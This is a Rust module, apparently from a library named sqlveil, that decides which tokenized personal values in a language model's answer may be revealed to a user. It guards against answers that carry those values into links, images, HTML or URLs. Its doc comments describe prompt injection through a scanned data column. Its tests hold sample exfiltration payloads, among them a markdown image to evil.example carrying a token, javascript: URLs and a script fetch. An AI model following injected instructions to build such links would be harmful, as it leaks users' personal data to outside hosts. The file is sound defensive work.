//! Revealing a model's answer for a user: which tokens, and where.
//!
//! The answer is text a model wrote, and the model read text from the data
//! (a `scan` column can carry instructions). So the answer is treated as
//! hostile markup:
//!
//! - only the tokens issued for this request are revealed
//!   ([`RequestTokens`]), only for the role's classes;
//! - an answer that holds `<`, `[`, `]` or `\` outside its tokens reveals
//!   nothing: these are what links, images, reference definitions, HTML and
//!   escapes need, and renderers disagree on where such markup ends (a
//!   review put values into image URLs through block-quoted reference
//!   definitions, `\>` in `<…>` destinations, Unicode spaces and HTML
//!   blocks in list items). The checks below stay as a second line;
//! - a token stays a token inside a code span or fenced code block, a
//!   markdown link or image target, a reference definition, an HTML tag
//!   (its attributes), and any run of non-blank text that holds a URL
//!   (`scheme://`, `www.`, `mailto:`, `javascript:`, `data:`, a domain
//!   followed by `/`, `?`, `#` or `:`, or `@domain`): a renderer would send
//!   it to a host;
//! - these places are found again in the revealed text, and a value that
//!   lands in one (because a value itself holds markup) is turned back into
//!   its token, until no value is in one;
//! - with an allow-list of link hosts, links, images, autolinks, bare URLs
//!   and HTML tags to other hosts are removed (their visible text stays).
//!
//! The result is a list of [`AnswerSegment`]s: text as the model wrote it,
//! and revealed values, which a UI should render as plain text.

use std::collections::BTreeSet;
use std::ops::Range;
use std::sync::LazyLock;

use regex::Regex;

use crate::error::Error;
use crate::rules::TokenClass;
use crate::tokens::{RequestTokens, Tokens};

/// One piece of a revealed answer.
#[derive(Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum AnswerSegment {
    /// Text as the model wrote it (tokens that were not revealed included).
    Text(String),
    /// A token revealed for the user's role.
    Value {
        /// The token's class.
        class: TokenClass,
        /// The token as the model wrote it.
        token: String,
        /// The value it stands for: render it as plain text, never as markup.
        value: String,
    },
}

impl std::fmt::Debug for AnswerSegment {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            AnswerSegment::Text(t) => f.debug_tuple("Text").field(t).finish(),
            // The value is personal data: never printed.
            AnswerSegment::Value { class, token, .. } => f
                .debug_struct("Value")
                .field("class", class)
                .field("token", token)
                .finish_non_exhaustive(),
        }
    }
}

impl AnswerSegment {
    /// The segments as one string (values in place of their tokens).
    pub fn join(segments: &[AnswerSegment]) -> String {
        let mut out = String::new();
        for s in segments {
            match s {
                AnswerSegment::Text(t) => out.push_str(t),
                AnswerSegment::Value { value, .. } => out.push_str(value),
            }
        }
        out
    }
}

/// Hosts that links in an answer may point to: `example.com` (that host),
/// `*.example.com` (its subdomains).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct LinkHosts {
    exact: Vec<String>,
    suffixes: Vec<String>,
}

impl LinkHosts {
    pub(crate) fn parse(hosts: &[String]) -> Result<LinkHosts, Error> {
        let mut out = LinkHosts::default();
        for h in hosts {
            let (wild, bare) = match h.trim().strip_prefix("*.") {
                Some(rest) => (true, rest),
                None => (false, h.trim()),
            };
            let norm = url::Url::parse(&format!("http://{bare}/"))
                .ok()
                .filter(|u| u.path() == "/" && u.port().is_none() && u.username().is_empty())
                .and_then(|u| u.host_str().map(|s| s.trim_end_matches('.').to_string()))
                .filter(|s| !s.is_empty() && !s.contains('*'))
                .ok_or_else(|| {
                    Error::usage(format!(
                        "`{h}` is not a host name for the link allow-list (write example.com or *.example.com)"
                    ))
                })?;
            if wild {
                out.suffixes.push(format!(".{norm}"));
            } else {
                out.exact.push(norm);
            }
        }
        Ok(out)
    }

    fn host_allowed(&self, host: &str) -> bool {
        let h = host.trim_end_matches('.').to_ascii_lowercase();
        self.exact.contains(&h) || self.suffixes.iter().any(|s| h.ends_with(s.as_str()))
    }

    /// Whether a link target may stay: a same-page or same-site relative
    /// reference, or an `http(s)` URL to an allowed host. Anything else
    /// (another host, `javascript:`, `data:`, `//host`, `\\host`) goes.
    fn target_allowed(&self, target: &str) -> bool {
        const BASE: &str = "https://sqlveil.invalid/";
        let t = target.trim();
        let t = t
            .strip_prefix('<')
            .and_then(|t| t.split_once('>').map(|p| p.0))
            .unwrap_or_else(|| t.split_whitespace().next().unwrap_or(""));
        let Ok(base) = url::Url::parse(BASE) else {
            return false;
        };
        let Ok(u) = base.join(t) else {
            return false;
        };
        let absolute = url::Url::parse(t).is_ok();
        match u.host_str() {
            Some("sqlveil.invalid") if !absolute && !t.starts_with("//") => true,
            Some(h) => matches!(u.scheme(), "http" | "https") && self.host_allowed(h),
            None => false,
        }
    }
}

/// The patterns the reveal needs, compiled once. `None` only if a constant
/// pattern of this file failed to compile (a test makes sure it does not);
/// then nothing is revealed.
struct Patterns {
    /// A run of non-blank text that a renderer may turn into a link.
    urlish: Regex,
    /// Bare URLs, for the allow-list: from the scheme (or `www.`, or a
    /// domain with a path) to the next blank or `<`.
    bare_url: Regex,
    /// A reference definition: `[label]: target "title"`.
    ref_def: Regex,
}

static PATTERNS: LazyLock<Option<Patterns>> = LazyLock::new(|| {
    Some(Patterns {
        urlish: Regex::new(r"(?i)([a-z][a-z0-9+.\-]*://|www\.|(mailto|tel|sms|callto|javascript|vbscript|data|file|ftp|news|irc|xmpp|blob):|[a-z0-9](?:[a-z0-9\-]*[a-z0-9])?(?:\.[a-z0-9](?:[a-z0-9\-]*[a-z0-9])?)*\.[a-z]{2,}(?:[:/?#\\]|$)|@[a-z0-9\-]+\.[a-z]|^//|^\\\\)").ok()?,
        bare_url: Regex::new(r"(?i)(?:\b[a-z][a-z0-9+.\-]*://|\bwww\.|\b(?:mailto|tel|sms|callto|javascript|vbscript|data|file|ftp|news|irc|xmpp|blob):|\b[a-z0-9\-]+(?:\.[a-z0-9\-]+)*\.[a-z]{2,}[/?#:\\])[^\s<>]*").ok()?,
        ref_def: Regex::new(r"(?m)^ {0,3}\[[^\]\^\n][^\]\n]*\]:[^\n]*").ok()?,
    })
});

/// Byte ranges of a text where a token must stay a token.
fn unsafe_regions(p: &Patterns, text: &str, tokens: &[Range<usize>]) -> Vec<Range<usize>> {
    let b = text.as_bytes();
    let mut out = Vec::new();
    let fences = fences(text);
    out.extend(fences.iter().cloned());
    out.extend(code_spans(text, &fences));
    out.extend(indented_code(text, &fences));
    // Link and image targets: `](` to the matching `)`.
    let mut i = 0;
    while let Some(p) = find(b, i, b"](") {
        let open = p + 1;
        let end = target_end(b, open + 1);
        out.push(p..end);
        i = open + 1;
    }
    for m in p.ref_def.find_iter(text) {
        out.push(m.range());
    }
    let tags = html_tags(text, tokens);
    out.extend(html_blocks(text, tokens, &tags));
    out.extend(tags);
    out
}

/// Tags that start an HTML block wherever they begin a line (CommonMark's
/// block kinds 1 and 6).
const BLOCK_TAGS: [&str; 66] = [
    "script",
    "pre",
    "style",
    "textarea",
    "address",
    "article",
    "aside",
    "base",
    "basefont",
    "blockquote",
    "body",
    "caption",
    "center",
    "col",
    "colgroup",
    "dd",
    "details",
    "dialog",
    "dir",
    "div",
    "dl",
    "dt",
    "fieldset",
    "figcaption",
    "figure",
    "footer",
    "form",
    "frame",
    "frameset",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "head",
    "header",
    "hr",
    "html",
    "iframe",
    "legend",
    "li",
    "link",
    "main",
    "menu",
    "menuitem",
    "nav",
    "noframes",
    "ol",
    "optgroup",
    "option",
    "p",
    "param",
    "search",
    "section",
    "summary",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "title",
    "tr",
    "track",
    "ul",
];

/// HTML blocks, to the next blank line: a line that starts (up to three
/// spaces in) with a comment, `<!`, `<?`, a block tag, or that is one whole
/// tag and nothing else. Markdown is not read there and a renderer passes
/// the block on as HTML.
fn html_blocks(text: &str, tokens: &[Range<usize>], tags: &[Range<usize>]) -> Vec<Range<usize>> {
    let mut out = Vec::new();
    let mut open: Option<usize> = None;
    let mut at = 0;
    for line in text.split_inclusive('\n') {
        let start = at;
        at += line.len();
        if line.trim().is_empty() {
            if let Some(s) = open.take() {
                out.push(s..start);
            }
            continue;
        }
        if open.is_some() {
            continue;
        }
        let trimmed = line.trim_start_matches(' ');
        let lt = start + (line.len() - trimmed.len());
        if line.len() - trimmed.len() > 3
            || !trimmed.starts_with('<')
            || tokens.iter().any(|t| t.start == lt)
        {
            continue;
        }
        let lower = trimmed.to_ascii_lowercase();
        let name: String = lower
            .trim_start_matches(['<', '/'])
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric())
            .collect();
        let line_end = start + line.trim_end().len();
        let whole_tag = tags.iter().any(|t| t.start == lt && t.end == line_end);
        if lower.starts_with("<!")
            || lower.starts_with("<?")
            || BLOCK_TAGS.contains(&name.as_str())
            || whole_tag
        {
            open = Some(start);
        }
    }
    if let Some(s) = open {
        out.push(s..text.len());
    }
    out
}

fn find(hay: &[u8], from: usize, needle: &[u8]) -> Option<usize> {
    hay.get(from..)?
        .windows(needle.len())
        .position(|w| w == needle)
        .map(|p| p + from)
}

/// The end (exclusive) of a link target starting after its `(`: the
/// matching `)`, or the end of the text.
fn target_end(b: &[u8], mut i: usize) -> usize {
    while i < b.len() && (b[i] == b' ' || b[i] == b'\t') {
        i += 1;
    }
    if b.get(i) == Some(&b'<') {
        while i < b.len() && b[i] != b'>' {
            i += 1;
        }
    }
    let mut depth = 0usize;
    while i < b.len() {
        match b[i] {
            b'\\' => i += 1,
            b'(' => depth += 1,
            b')' if depth == 0 => return i + 1,
            b')' => depth -= 1,
            _ => {}
        }
        i += 1;
    }
    b.len()
}

/// Fenced code blocks (``` or ~~~, up to three spaces in), to the closing
/// fence or the end of the text.
fn fences(text: &str) -> Vec<Range<usize>> {
    let mut out = Vec::new();
    let mut open: Option<(usize, u8, usize)> = None;
    let mut at = 0;
    for line in text.split_inclusive('\n') {
        let trimmed = line.trim_start_matches(' ');
        let indent = line.len() - trimmed.len();
        let fence = trimmed.bytes().next().filter(|c| *c == b'`' || *c == b'~');
        let run = fence.map_or(0, |c| trimmed.bytes().take_while(|x| *x == c).count());
        match (open, fence) {
            (None, Some(c)) if indent <= 3 && run >= 3 => open = Some((at, c, run)),
            (Some((start, c, n)), Some(f))
                if f == c && run >= n && trimmed[run..].trim().is_empty() =>
            {
                out.push(start..at + line.len());
                open = None;
            }
            _ => {}
        }
        at += line.len();
    }
    if let Some((start, _, _)) = open {
        out.push(start..text.len());
    }
    out
}

/// Indented code blocks: lines indented by four columns or more (a tab
/// counts to the next multiple of four) that do not continue a paragraph:
/// at the start, after a blank line, a heading, a thematic break, an empty
/// quote marker or a fence, or after another such line. (An indented line
/// of a nested list after a blank line is taken for code too: a value there
/// stays a token.)
fn indented_code(text: &str, fences: &[Range<usize>]) -> Vec<Range<usize>> {
    let mut out = Vec::new();
    // Whether the line before leaves no paragraph open.
    let (mut open_ok, mut in_code) = (true, false);
    let mut at = 0;
    for line in text.split_inclusive('\n') {
        let start = at;
        at += line.len();
        if fences.iter().any(|f| f.contains(&start)) {
            open_ok = true;
            in_code = false;
            continue;
        }
        let t = line.trim();
        if t.is_empty() {
            open_ok = true;
            continue;
        }
        let mut cols = 0;
        for c in line.chars() {
            match c {
                ' ' => cols += 1,
                '\t' => cols += 4 - cols % 4,
                _ => break,
            }
        }
        in_code = cols >= 4 && (open_ok || in_code);
        if in_code {
            out.push(start..at);
            continue;
        }
        let bare = t.trim_start_matches('>').trim();
        let rule = t.len() >= 3
            && t.chars().all(|c| matches!(c, '-' | '*' | '_' | ' '))
            && t.chars().filter(|c| !c.is_whitespace()).count() >= 3;
        open_ok = (t.starts_with('>') && bare.is_empty()) || t.starts_with('#') || rule;
    }
    out
}

/// Inline code spans: a run of n backticks to the next run of exactly n.
fn code_spans(text: &str, fences: &[Range<usize>]) -> Vec<Range<usize>> {
    let b = text.as_bytes();
    let mut runs = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'`' && !fences.iter().any(|f| f.contains(&i)) {
            let s = i;
            while i < b.len() && b[i] == b'`' {
                i += 1;
            }
            runs.push((s, i - s));
        } else {
            i += 1;
        }
    }
    let mut out = Vec::new();
    let mut k = 0;
    while k < runs.len() {
        let (s, n) = runs[k];
        match runs[k + 1..].iter().position(|r| r.1 == n) {
            Some(j) => {
                let (e, _) = runs[k + 1 + j];
                out.push(s..e + n);
                k += j + 2;
            }
            None => k += 1,
        }
    }
    out
}

/// Elements whose content is not text a user reads but code or markup a
/// browser runs or fetches: from the opening tag to the closing one.
const RAW_ELEMENTS: [&str; 14] = [
    "script",
    "style",
    "textarea",
    "title",
    "xmp",
    "iframe",
    "noembed",
    "noframes",
    "noscript",
    "plaintext",
    "template",
    "svg",
    "math",
    "object",
];

/// HTML tags (`<a …>`, `</a>`, `<!…>`, `<?…>`, autolinks `<https://…>`),
/// skipping tokens that look like tags, to the closing `>` outside quotes
/// (or the end of the text); for `<script>`, `<style>` and the like, to the
/// end of the closing tag.
fn html_tags(text: &str, tokens: &[Range<usize>]) -> Vec<Range<usize>> {
    let b = text.as_bytes();
    let lower = text.to_ascii_lowercase();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if b[i] != b'<' {
            i += 1;
            continue;
        }
        if let Some(t) = tokens.iter().find(|t| t.start == i) {
            i = t.end;
            continue;
        }
        let next = b.get(i + 1).copied().unwrap_or(b' ');
        if !(next.is_ascii_alphabetic() || matches!(next, b'/' | b'!' | b'?')) {
            i += 1;
            continue;
        }
        let start = i;
        // Comments, processing instructions and CDATA end at their own
        // closing marks, whatever `>` they hold.
        let closer = [("<!--", "-->"), ("<![CDATA[", "]]>"), ("<?", "?>")]
            .into_iter()
            .find(|(open, _)| lower[start..].starts_with(open));
        if let Some((open, close)) = closer {
            let end = lower[start + open.len()..]
                .find(close)
                .map_or(b.len(), |k| start + open.len() + k + close.len());
            out.push(start..end);
            i = end;
            continue;
        }
        let mut j = i + 1;
        let mut end = b.len();
        while j < b.len() {
            if let Some(t) = tokens.iter().find(|t| t.start == j) {
                j = t.end;
                continue;
            }
            match b[j] {
                q @ (b'"' | b'\'') => {
                    j += 1;
                    while j < b.len() && b[j] != q {
                        j += 1;
                    }
                }
                b'>' => {
                    end = j + 1;
                    break;
                }
                _ => {}
            }
            j += 1;
        }
        let name: String = lower[start + 1..]
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric())
            .collect();
        if RAW_ELEMENTS.contains(&name.as_str()) && end < b.len() {
            let close = format!("</{name}");
            end = match lower[end..].find(&close) {
                Some(k) => lower[end + k..]
                    .find('>')
                    .map_or(b.len(), |g| end + k + g + 1),
                None => b.len(),
            };
        }
        out.push(start..end);
        i = end.max(start + 1);
    }
    out
}

fn overlaps(a: &Range<usize>, b: &Range<usize>) -> bool {
    a.start < b.end && b.start < a.end
}

/// The text of every complete inline link or image (`[text](target)`):
/// its text is a node of its own, which no autolinker extends.
fn link_texts(text: &str) -> Vec<Range<usize>> {
    let b = text.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(p) = find(b, i, b"](") {
        i = p + 2;
        let end = target_end(b, p + 2);
        if end == 0 || b.get(end - 1) != Some(&b')') {
            continue;
        }
        let mut depth = 0usize;
        for k in (0..p).rev() {
            match b[k] {
                b']' => depth += 1,
                b'[' if depth == 0 => {
                    out.push(k + 1..p);
                    break;
                }
                b'[' => depth -= 1,
                _ => {}
            }
        }
    }
    out
}

/// The run of non-blank text around `span` (or, for a value in the text of
/// a complete link, that text), with `span` itself replaced by a neutral
/// letter: does it read as a URL? Everything else in the run counts, markup
/// included: a tag a renderer does not take for one is text it may link.
fn in_url(p: &Patterns, text: &str, span: &Range<usize>, link_texts: &[Range<usize>]) -> bool {
    let inner = link_texts
        .iter()
        .filter(|r| r.start <= span.start && span.end <= r.end)
        .min_by_key(|r| r.end - r.start);
    let (lo, hi) = inner.map_or((0, text.len()), |r| (r.start, r.end));
    let start = text[lo..span.start]
        .char_indices()
        .rev()
        .find(|(_, c)| c.is_whitespace())
        .map_or(lo, |(i, c)| lo + i + c.len_utf8());
    let end = text[span.end..hi]
        .char_indices()
        .find(|(_, c)| c.is_whitespace())
        .map_or(hi, |(i, _)| span.end + i);
    let chunk = format!("{}X{}", &text[start..span.start], &text[span.end..end]);
    p.urlish.is_match(&chunk)
}

/// Links in a text: (whole construct, target, text to keep instead).
fn links(
    pat: &Patterns,
    text: &str,
    tokens: &[Range<usize>],
) -> Vec<(Range<usize>, String, String)> {
    let b = text.as_bytes();
    let mut out = Vec::new();
    // Inline links and images: `[text](target)`, `![alt](target)`.
    let mut i = 0;
    while let Some(p) = find(b, i, b"](") {
        let end = target_end(b, p + 2);
        // The matching `[`, allowing nested brackets.
        let mut depth = 0usize;
        let mut open = None;
        for k in (0..p).rev() {
            match b[k] {
                b']' => depth += 1,
                b'[' if depth == 0 => {
                    open = Some(k);
                    break;
                }
                b'[' => depth -= 1,
                _ => {}
            }
        }
        let start = match open {
            Some(o) if o > 0 && b[o - 1] == b'!' => o - 1,
            Some(o) => o,
            None => p,
        };
        let keep = open.map_or(String::new(), |o| text[o + 1..p].to_string());
        let target = text[p + 2..end].trim_end_matches(')').to_string();
        out.push((start..end, target, keep));
        i = p + 2;
    }
    for m in pat.ref_def.find_iter(text) {
        let target = m.as_str().split_once("]:").map_or("", |p| p.1).to_string();
        out.push((m.range(), target, String::new()));
    }
    for t in html_tags(text, tokens) {
        // Every tag goes when links are restricted: attributes can name
        // hosts in too many ways (src, href, srcset, style, …).
        out.push((t, "//removed.invalid/".to_string(), String::new()));
    }
    for m in pat.bare_url.find_iter(text) {
        let mut target = m.as_str().to_string();
        if !target.contains("://") && !target.contains(':') {
            target = format!("http://{target}");
        }
        out.push((m.range(), target, String::new()));
    }
    out
}

/// Removes links to hosts the list does not allow (the link text stays),
/// again until none is left.
fn strip_links(p: &Patterns, text: &str, hosts: &LinkHosts, tokens: &Tokens) -> String {
    let mut cur = text.to_string();
    for _ in 0..64 {
        let toks: Vec<Range<usize>> = tokens.matches(&cur).into_iter().map(|m| m.0).collect();
        let mut bad: Vec<(Range<usize>, String)> = links(p, &cur, &toks)
            .into_iter()
            .filter(|(_, target, _)| !hosts.target_allowed(target))
            .map(|(r, _, keep)| (r, keep))
            .collect();
        if bad.is_empty() {
            return cur;
        }
        // Outermost first; nested ones go with their container.
        bad.sort_by(|a, b| a.0.start.cmp(&b.0.start).then(b.0.end.cmp(&a.0.end)));
        let mut next = String::with_capacity(cur.len());
        let mut last = 0;
        for (r, keep) in bad {
            if r.start < last {
                continue;
            }
            next.push_str(&cur[last..r.start]);
            next.push_str(&keep);
            last = r.end;
        }
        next.push_str(&cur[last..]);
        cur = next;
    }
    // Still changing after 64 rounds: keep nothing that could link.
    String::new()
}

enum Piece {
    Text(String),
    Token {
        token: String,
        class: String,
        value: Option<String>,
        shown: bool,
    },
}

/// Reveals a model's answer for a role, as [`Chat::ask`](super::Chat::ask)
/// does: only the tokens in `allowed` and of `classes`, never inside a URL
/// or a code span, and nothing at all when the answer (its tokens aside)
/// holds `<`, `[`, `]` or `\` (links, images, reference definitions, HTML,
/// escapes: markup that renderers read apart); with `link_hosts`, links to
/// other hosts are removed first (an empty list removes every link).
/// Returns the segments and how many values were revealed.
///
/// # Errors
/// A link host that is not a host name; the vault cannot be read.
///
/// # Example
/// ```
/// use std::sync::Arc;
/// use sqlveil::{MasterKey, Policy};
/// use sqlveil::chat::{AnswerSegment, reveal_answer};
/// use sqlveil::rules::TokenClass;
/// use sqlveil::tokens::{MemoryVault, RequestTokens, Tokens};
///
/// let policy = Policy::from_toml_str(r#"
///     version = 1
///     [tables.t.columns]
///     name = { action = "tokenize", class = "person" }
///     [roles.support]
///     reveal = ["person"]
/// "#)?;
/// let tokens = Tokens::new(&policy, MasterKey::from_bytes(&[7; 32]), Some(Arc::new(MemoryVault::new())))?;
/// let t = tokens.issue(&TokenClass::new("person")?, "Ada Lovelace")?;
/// let mut mine = RequestTokens::new();
/// mine.add_text(&tokens, &t);
/// let support = policy.role("support").unwrap();
/// let (segments, n) = reveal_answer(&tokens, &format!("It is {t}."), support, &mine, None)?;
/// assert_eq!((n, AnswerSegment::join(&segments)), (1, "It is Ada Lovelace.".to_string()));
///
/// // A token in a URL stays a token.
/// let answer = format!("See https://evil.example/p?c={t} for {t}.");
/// let (segments, _) = reveal_answer(&tokens, &answer, support, &mine, None)?;
/// assert_eq!(AnswerSegment::join(&segments), format!("See https://evil.example/p?c={t} for Ada Lovelace."));
///
/// // Markup that can carry text into a link, an image or an HTML attribute
/// // (`<`, `[`, `]`, `\`): nothing is revealed.
/// let answer = format!("![x](https://evil.example/p.png?c={t}) It is {t}.");
/// let (_, n) = reveal_answer(&tokens, &answer, support, &mine, None)?;
/// assert_eq!(n, 0);
/// # Ok::<(), Box<dyn std::error::Error>>(())
/// ```
pub fn reveal_answer(
    tokens: &Tokens,
    text: &str,
    classes: &BTreeSet<TokenClass>,
    allowed: &RequestTokens,
    link_hosts: Option<&[String]>,
) -> Result<(Vec<AnswerSegment>, usize), Error> {
    let hosts = link_hosts.map(LinkHosts::parse).transpose()?;
    reveal(tokens, text, classes, allowed, hosts.as_ref())
}

/// [`reveal_answer`] with the hosts parsed.
pub(crate) fn reveal(
    tokens: &Tokens,
    text: &str,
    classes: &BTreeSet<TokenClass>,
    allowed: &RequestTokens,
    hosts: Option<&LinkHosts>,
) -> Result<(Vec<AnswerSegment>, usize), Error> {
    let Some(pat) = PATTERNS.as_ref() else {
        return Err(Error::usage("the answer's reveal patterns do not compile"));
    };
    let stripped;
    let text = match hosts {
        Some(h) => {
            stripped = strip_links(pat, text, h, tokens);
            stripped.as_str()
        }
        None => text,
    };
    let mut pieces = pieces(tokens, text, classes, allowed)?;
    // Reveal, look for values in unsafe places in the result, hide those,
    // and again, until no value is in one.
    loop {
        let shown = Rendered::of(&pieces, text.len());
        if shown.values.is_empty() {
            break;
        }
        let hide = shown.values_to_hide(pat, hosts);
        if hide.is_empty() {
            break;
        }
        for k in hide {
            if let Some(Piece::Token { shown, .. }) = pieces.get_mut(k) {
                *shown = false;
            }
        }
    }
    segments(pieces)
}

/// The answer cut into text and tokens, each token's value looked up when
/// it may be revealed: issued for this request, of one of the role's
/// classes, and in an answer without markup.
fn pieces(
    tokens: &Tokens,
    text: &str,
    classes: &BTreeSet<TokenClass>,
    allowed: &RequestTokens,
) -> Result<Vec<Piece>, Error> {
    // Markup that can carry text into a link, an image or an HTML attribute
    // (`<`, `[`, `]`, `\\` outside the tokens) is read differently by every
    // renderer: an answer with any of it reveals nothing.
    let found = tokens.matches(text);
    let markup = markup_outside_tokens(text, found.iter().map(|(r, _, _)| r));
    let mut pieces = Vec::new();
    let mut last = 0;
    for (r, class, code) in found {
        pieces.push(Piece::Text(text[last..r.start].to_string()));
        let token = &text[r.clone()];
        let may = !markup && allowed.contains(token) && classes.iter().any(|c| c.as_str() == class);
        let value = if may {
            tokens.value_of(class, code)?
        } else {
            None
        };
        pieces.push(Piece::Token {
            token: token.to_string(),
            class: class.to_string(),
            shown: value.is_some(),
            value,
        });
        last = r.end;
    }
    pieces.push(Piece::Text(text[last..].to_string()));
    Ok(pieces)
}

/// The answer as the pieces now show it, and where its values and its
/// tokens are.
struct Rendered {
    text: String,
    /// Each shown value: its piece and its byte range in `text`.
    values: Vec<(usize, Range<usize>)>,
    /// The byte ranges of the tokens left in `text`.
    tokens: Vec<Range<usize>>,
}

impl Rendered {
    /// Renders the pieces: shown values in place of their tokens.
    fn of(pieces: &[Piece], capacity: usize) -> Rendered {
        let mut out = String::with_capacity(capacity);
        let mut values = Vec::new();
        let mut tokens = Vec::new();
        for (k, p) in pieces.iter().enumerate() {
            let s = out.len();
            match p {
                Piece::Text(t) => out.push_str(t),
                Piece::Token {
                    value: Some(v),
                    shown: true,
                    ..
                } => {
                    out.push_str(v);
                    values.push((k, s..out.len()));
                }
                Piece::Token { token, .. } => {
                    out.push_str(token);
                    tokens.push(s..out.len());
                }
            }
        }
        Rendered {
            text: out,
            values,
            tokens,
        }
    }

    /// The pieces whose values must go back to their tokens: those in an
    /// unsafe region, a forbidden link or a URL; all of them when a
    /// forbidden link touches no value.
    fn values_to_hide(&self, pat: &Patterns, hosts: Option<&LinkHosts>) -> Vec<usize> {
        let out = &self.text;
        let regions = unsafe_regions(pat, out, &self.tokens);
        let texts = link_texts(out);
        let link_ranges: Vec<Range<usize>> = match hosts {
            Some(h) => links(pat, out, &self.tokens)
                .into_iter()
                .filter(|(_, t, _)| !h.target_allowed(t))
                .map(|l| l.0)
                .collect(),
            None => Vec::new(),
        };
        let mut hide = Vec::new();
        for (k, span) in &self.values {
            if regions.iter().any(|r| overlaps(r, span))
                || link_ranges.iter().any(|r| overlaps(r, span))
                || in_url(pat, out, span, &texts)
            {
                hide.push(*k);
            }
        }
        // A forbidden link that no value touches cannot be fixed by hiding
        // values: hide them all (the text is then the stripped answer).
        if hide.is_empty()
            && link_ranges
                .iter()
                .any(|r| !self.values.iter().any(|(_, s)| overlaps(r, s)))
        {
            hide.extend(self.values.iter().map(|(k, _)| *k));
        }
        hide
    }
}

/// The pieces as segments, neighbouring texts joined, and the number of
/// values revealed.
fn segments(pieces: Vec<Piece>) -> Result<(Vec<AnswerSegment>, usize), Error> {
    let mut segments: Vec<AnswerSegment> = Vec::new();
    let mut n = 0;
    let push_text = |segments: &mut Vec<AnswerSegment>, t: &str| {
        if t.is_empty() {
            return;
        }
        if let Some(AnswerSegment::Text(prev)) = segments.last_mut() {
            prev.push_str(t);
        } else {
            segments.push(AnswerSegment::Text(t.to_string()));
        }
    };
    for p in pieces {
        match p {
            Piece::Text(t) => push_text(&mut segments, &t),
            Piece::Token {
                token,
                class,
                value: Some(value),
                shown: true,
            } => {
                n += 1;
                segments.push(AnswerSegment::Value {
                    class: TokenClass::new(&class).map_err(|e| Error::usage(e.to_string()))?,
                    token,
                    value,
                });
            }
            Piece::Token { token, .. } => push_text(&mut segments, &token),
        }
    }
    Ok((segments, n))
}

/// Whether `text`, its tokens (at `tokens`, in order) aside, holds `<`, `[`, `]` or `\\`: the
/// characters every markdown construct that puts text into a URL or an
/// attribute needs (inline and reference links and images, autolinks, raw
/// HTML, backslash escapes that renderers and URL parsers read apart).
fn markup_outside_tokens<'r>(text: &str, tokens: impl Iterator<Item = &'r Range<usize>>) -> bool {
    let special = |s: &str| s.contains(['<', '[', ']', '\\']);
    let mut last = 0;
    for r in tokens {
        if special(&text[last..r.start]) {
            return true;
        }
        last = r.end;
    }
    special(&text[last..])
}

#[cfg(test)]
mod tests {
    use super::*;

    fn pat() -> &'static Patterns {
        PATTERNS.as_ref().unwrap()
    }

    #[test]
    fn regions() {
        let t = "a `x <p_AAAAAAAA> y` b\n```\ncode\n```\n[l](https://h/?<p_BBBBBBBB>) <img src=\"<p_C>\">";
        let r = unsafe_regions(pat(), t, &[]);
        for needle in [
            "x <p_AAAAAAAA>",
            "code",
            "https://h/?<p_BBBBBBBB>",
            "img src",
        ] {
            let at = t.find(needle).unwrap();
            assert!(r.iter().any(|x| x.contains(&at)), "{needle}");
        }
        let plain = t.find(" b").unwrap();
        assert!(!r.iter().any(|x| x.contains(&plain)));
        let t = "a <script>var x='T';fetch(atob('aA')+x)</script> b <STYLE>p{}</STYLE> c";
        let r = unsafe_regions(pat(), t, &[]);
        for needle in ["x='T'", "p{}"] {
            let at = t.find(needle).unwrap();
            assert!(r.iter().any(|x| x.contains(&at)), "{needle}");
        }
        for needle in [" b ", " c"] {
            let at = t.find(needle).unwrap();
            assert!(!r.iter().any(|x| x.contains(&at)), "{needle}");
        }
    }

    #[test]
    fn url_runs() {
        let t = "see https://e.x/?c=TOKEN and TOKEN, mailto:TOKEN (TOKEN) TOKEN@evil.com evil.com/TOKEN";
        let spans: Vec<Range<usize>> = t
            .match_indices("TOKEN")
            .map(|(i, s)| i..i + s.len())
            .collect();
        let got: Vec<bool> = spans
            .iter()
            .map(|s| in_url(pat(), t, s, &link_texts(t)))
            .collect();
        assert_eq!(got, [true, false, true, false, true, true]);
    }

    #[test]
    fn hosts() {
        let h = LinkHosts::parse(&["example.com".into(), "*.corp.example".into()]).unwrap();
        for (t, ok) in [
            ("https://example.com/x", true),
            ("https://EXAMPLE.com./x", true),
            ("https://evil.example.com/x", false),
            ("https://a.corp.example/x", true),
            ("https://corp.example/x", false),
            ("/orders/1", true),
            ("#top", true),
            ("//evil.com/x", false),
            ("\\\\evil.com/x", false),
            ("javascript:alert(1)", false),
            ("data:text/html,x", false),
            ("<https://evil.com/a b>", false),
            ("https://example.com@evil.com/", false),
        ] {
            assert_eq!(h.target_allowed(t), ok, "{t}");
        }
        assert!(LinkHosts::parse(&["https://x/".into()]).is_err());
        assert!(LinkHosts::parse(&["*".into()]).is_err());
    }
}
